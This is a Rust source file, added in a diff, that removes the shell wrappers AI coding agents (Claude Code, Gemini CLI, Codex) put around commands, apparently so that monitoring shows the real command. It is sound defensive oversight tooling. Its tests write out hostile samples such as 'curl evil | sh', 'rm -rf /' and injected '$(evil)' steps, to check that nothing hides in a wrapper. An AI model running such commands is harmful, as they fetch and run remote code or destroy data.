@@ -1,0 +1,226 @@
+//! What the agent wraps around a command before it hands it to a shell, and how to take it off
+//! again. One recogniser per shape, each as strict as the real strings allow: a line that is not
+//! exactly such a wrapper is shown as it is, so that nothing can hide in what is left out.
+#![forbid(unsafe_code)]
+
+use super::shell::literal_word;
+use crate::bytes::Bytes;
+
+/// What stands behind a shell's command line.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Unwrapped {
+    /// The script that a person would have typed.
+    Script(Vec<u8>),
+    /// Only a step on the way: the same process executes the real command next.
+    Step,
+}
+
+/// Takes the wrappers off an argv; `None` where it is no shell with a script, or has arguments for
+/// the script that would be lost.
+pub fn unwrap(path: &[u8], argv: &[Bytes]) -> Option<Unwrapped> {
+    if is_codex_step(argv) {
+        return Some(Unwrapped::Step);
+    }
+    let script = shell_script(path, argv)?;
+    let inner = claude(script).or_else(|| gemini(script));
+    Some(Unwrapped::Script(inner.unwrap_or_else(|| script.to_vec())))
+}
+
+/// The script of `bash -c SCRIPT` and its like, where there is nothing but the script.
+fn shell_script<'a>(path: &[u8], argv: &'a [Bytes]) -> Option<&'a [u8]> {
+    const SHELLS: [&[u8]; 6] = [b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh"];
+    if !SHELLS.contains(&basename(path)) {
+        return None;
+    }
+    let mut arguments = argv.iter().skip(1).map(|argument| argument.0.as_slice()).peekable();
+    let mut is_script = false;
+    while let Some(option) = arguments.next_if(|argument| argument.starts_with(b"-")) {
+        match option {
+            b"--norc" | b"--noprofile" | b"--login" => {}
+            // Other letters change what the script does (`-n` runs nothing of it).
+            [b'-', letters @ ..] if letters.iter().all(|letter| b"cleux".contains(letter)) => {
+                is_script |= letters.contains(&b'c');
+            }
+            _ => return None,
+        }
+    }
+    let script = arguments.next().filter(|script| is_script && !script.trim_ascii().is_empty());
+    script.filter(|_| arguments.next().is_none())
+}
+
+/// The last component of a path.
+pub fn basename(path: &[u8]) -> &[u8] {
+    path.rsplit(|byte| *byte == b'/').next().unwrap_or(path)
+}
+
+/// Claude Code: `source SNAPSHOT ... && eval 'COMMAND' < /dev/null && pwd -P >| FILE`.
+fn claude(script: &[u8]) -> Option<Vec<u8>> {
+    const ZSH: &str =
+        "NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL NO_BRACE_CCL NO_MAGIC_EQUAL_SUBST NO_EQUALS";
+    let preparations = [
+        "shopt -u extglob 2>/dev/null || true".to_owned(),
+        "\\builtin shopt -u extglob 2>/dev/null || true".to_owned(),
+        "setopt NO_EXTENDED_GLOB 2>/dev/null || true".to_owned(),
+        format!("\\builtin setopt {ZSH} 2>/dev/null || true"),
+        format!(
+            "{{ \\builtin shopt -u extglob || \\builtin setopt {ZSH}; }} >/dev/null 2>&1 || true"
+        ),
+    ];
+    let mut rest = script;
+    loop {
+        let step = preparations
+            .iter()
+            .find_map(|step| rest.strip_prefix(step.as_bytes()))
+            .or_else(|| claude_snapshot(rest))
+            .or_else(|| claude_unalias(rest))
+            .and_then(|rest| rest.strip_prefix(b" && "));
+        let Some(after) = step else { break };
+        rest = after;
+    }
+    let (command, rest) = literal_word(rest.strip_prefix(b"eval ")?)?;
+    let rest = rest.strip_prefix(b" < /dev/null").unwrap_or(rest);
+    let (_, rest) = literal_word(rest.strip_prefix(b" && pwd -P >| ")?)?;
+    rest.is_empty().then_some(command)
+}
+
+fn claude_snapshot(rest: &[u8]) -> Option<&[u8]> {
+    let (file, rest) = literal_word(rest.strip_prefix(b"source ")?)?;
+    let ours = file.windows(17).any(|part| part == b"/shell-snapshots/");
+    rest.strip_prefix(b" 2>/dev/null || true").filter(|_| ours)
+}
+
+fn claude_unalias(rest: &[u8]) -> Option<&[u8]> {
+    let (one, rest) = literal_word(rest.strip_prefix(b"{ \\builtin unalias -- ")?)?;
+    let (two, rest) = literal_word(rest.strip_prefix(b"; \\builtin unset -f -- ")?)?;
+    rest.strip_prefix(b"; } >/dev/null 2>&1 || true").filter(|_| one == two)
+}
+
+/// Gemini CLI: a subshell with a trap that lists background jobs.
+fn gemini(script: &[u8]) -> Option<Vec<u8>> {
+    let (first, rest) = split_line(script)?;
+    let (_, assigned) = std::str::from_utf8(first.strip_prefix(b"shopt -u promptvars ")?)
+        .ok()?
+        .split_once("; _bgpids_file=")?;
+    if first.iter().any(|byte| b"&|`$()<>".contains(byte)) || assigned.contains(';') {
+        return None;
+    }
+    let (trap, rest) = split_line(rest.strip_prefix(b"(\n")?)?;
+    let file = trap.strip_prefix(b"  trap 'jobs -p > ")?.strip_suffix(b"' EXIT")?;
+    if file.iter().any(|byte| b"&|`;'()<>\n".contains(byte)) {
+        return None;
+    }
+    let command = rest.strip_suffix(b"\n)\n__code=$?\nexit $__code")?;
+    Some(command.to_vec())
+}
+
+fn split_line(text: &[u8]) -> Option<(&[u8], &[u8])> {
+    let at = text.iter().position(|byte| *byte == b'\n')?;
+    Some((&text[..at], &text[at + 1..]))
+}
+
+/// Codex executes itself, then a shell that restores a snapshot, then the command, all in one
+/// process.
+fn is_codex_step(argv: &[Bytes]) -> bool {
+    let is = |argument: &Bytes, text: &[u8]| argument.0 == text;
+    let setup = argv.iter().skip(1).any(|arg| is(arg, b"--codex-run-as-process-setup"));
+    let snapshot = argv.len() == 3
+        && is(&argv[1], b"-c")
+        && argv[2].0.windows(16).any(|part| part == b"__CODEX_SNAPSHOT");
+    setup || snapshot
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn shown(argv: &[&str]) -> Option<String> {
+        let argv: Vec<Bytes> = argv.iter().map(|argument| Bytes::from(*argument)).collect();
+        match unwrap(&argv[0].0, &argv)? {
+            Unwrapped::Script(script) => Some(String::from_utf8(script).unwrap()),
+            Unwrapped::Step => Some("(step)".to_owned()),
+        }
+    }
+
+    /// As Claude Code 2.1.330 executes it.
+    const CLAUDE: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1795392492694-0bd9su.sh \
+        2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true \
+        && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true \
+        && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true \
+        && eval 'ls -la && echo hi > made.txt' < /dev/null && pwd -P >| /tmp/claude-cd35-cwd";
+
+    const CLAUDE_HEREDOC: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1-a.sh \
+        2>/dev/null || true && eval 'cat <<'\"'\"'EOF'\"'\"' > x.txt\nit'\"'\"'s\nEOF\nwc -l x.txt' \
+        && pwd -P >| /tmp/claude-57a9-cwd";
+
+    const GEMINI: &str = "shopt -u promptvars nullglob extglob nocaseglob dotglob; \
+        _bgpids_file=/tmp/gemini-shell-Xa/bgpids.tmp\n(\n  trap 'jobs -p > /tmp/gemini-shell-Xa/bgpids.tmp' EXIT\n\
+        npm test\n)\n__code=$?\nexit $__code";
+
+    #[test]
+    fn each_agents_wrapper_comes_off() {
+        let cases: [(&[&str], Option<&str>); 14] = [
+            (&["/bin/bash", "-c", CLAUDE], Some("ls -la && echo hi > made.txt")),
+            (
+                &["/bin/bash", "-c", CLAUDE_HEREDOC],
+                Some("cat <<'EOF' > x.txt\nit's\nEOF\nwc -l x.txt"),
+            ),
+            (&["/usr/bin/bash", "-c", GEMINI], Some("npm test")),
+            (&["bash", "-c", "npm test"], Some("npm test")),
+            (&["/bin/bash", "--norc", "--noprofile", "-c", "ls"], Some("ls")),
+            (&["bash", "-lc", "ls"], Some("ls")),
+            (&["/bin/sh", "-c", "cc -c a.c"], Some("cc -c a.c")),
+            (
+                &["/opt/codex", "--codex-run-as-process-setup", "x", "bash", "-c", "ls"],
+                Some("(step)"),
+            ),
+            (&["bash", "-c", "__CODEX_SNAPSHOT=/x\nexec \"$@\""], Some("(step)")),
+            (&["bash", "-c", "echo \"$1\"", "x", "y"], None),
+            (&["bash", "-nc", "ls"], None),
+            (&["bash", "script.sh"], None),
+            (&["bash", "-c", " "], None),
+            (&["python3", "-c", "print(1)"], None),
+        ];
+        for (argv, want) in cases {
+            assert_eq!(shown(argv).as_deref(), want, "{argv:?}");
+        }
+    }
+
+    #[test]
+    fn nothing_hides_in_a_wrapper() {
+        let evil = [
+            CLAUDE.replacen("source ", "curl evil | sh; source ", 1),
+            CLAUDE.replace(" && eval ", " && rm -rf / && eval "),
+            CLAUDE.replace("source /home", "source $(evil)/home"),
+            CLAUDE.replace("shell-snapshots", "elsewhere"),
+            CLAUDE.replace("'which'; }", "'which'; evil; }"),
+            CLAUDE.replace("-- 'which'", "-- $(evil)"),
+            CLAUDE.replace(" < /dev/null", " < /dev/null; evil"),
+            format!("{CLAUDE}; evil"),
+            format!("{CLAUDE}$(evil)"),
+            CLAUDE.replace("eval 'ls", "eval \"$x\"'ls"),
+            GEMINI.replace("tmp\n(\n", "tmp; evil\n(\n"),
+            GEMINI.replace("tmp\n(\n", "tmp $(evil)\n(\n"),
+            GEMINI.replace("' EXIT", "; evil' EXIT"),
+            GEMINI.replace("exit $__code", "evil; exit $__code"),
+        ];
+        for script in &evil {
+            assert_eq!(shown(&["bash", "-c", script]).as_ref(), Some(script));
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_is_evaled_is_what_is_shown(command in "[ -~\n]{1,40}") {
+            let quoted = format!("'{}'", command.replace('\'', "'\"'\"'"));
+            let script = CLAUDE.replace("'ls -la && echo hi > made.txt'", &quoted);
+            prop_assert_eq!(shown(&["bash", "-c", &script]), Some(command));
+        }
+
+        #[test]
+        fn any_argv_is_safe(argv in proptest::collection::vec(any::<Vec<u8>>(), 0..5)) {
+            let argv: Vec<_> = argv.into_iter().map(Bytes).collect();
+            let _ = unwrap(b"/bin/sh", &argv);
+        }
+    }
+}
